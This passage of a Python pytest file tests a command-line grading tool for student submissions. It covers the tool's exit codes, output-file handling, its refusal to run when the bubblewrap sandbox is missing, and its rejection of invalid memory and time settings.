    assert "### alice: ok, 2/2" in markdown and "ran without a sandbox" in markdown
    assert sorted(p.name for p in out.parent.iterdir()) == ["grades.csv", "grades.md"]
    assert grading.run(parse(str(subs), *args, "-o", str(out), "--no-sandbox")) == 2  # exists
    assert "--overwrite" in capsys.readouterr().err
    assert grading.run(parse(str(subs), *args, "-o", str(tmp_path / "g.md"))) == 2
    assert grading.run(parse(str(tmp_path / "nope"), *args, "-o", str(tmp_path / "g.csv"))) == 2


def test_without_bubblewrap_grading_refuses_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    subs, args = class_of_one(tmp_path)
    monkeypatch.setattr(sandbox, "problem", lambda: "bubblewrap (bwrap) is not installed")
    assert grading.run(parse(str(subs), *args, "-o", str(tmp_path / "grades.csv"))) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "apt-get install bubblewrap" in error and "--no-sandbox" in error
    assert not (tmp_path / "grades.csv").exists()


def test_grading_refuses_bad_settings(tmp_path: Path) -> None:
    with pytest.raises(grading.GradingError, match="memory_mb"):
        grading.grade(tmp_path, "03", memory_mb=10)
    with pytest.raises(grading.GradingError, match="time limits"):
        grading.grade(tmp_path, "03", check_timeout_s=0)
    with pytest.raises(grading.GradingError, match="different files"):
        grading.grade(tmp_path, "03", out_csv=tmp_path / "a", out_md=tmp_path / "a")
    assert not os.listdir(tmp_path)
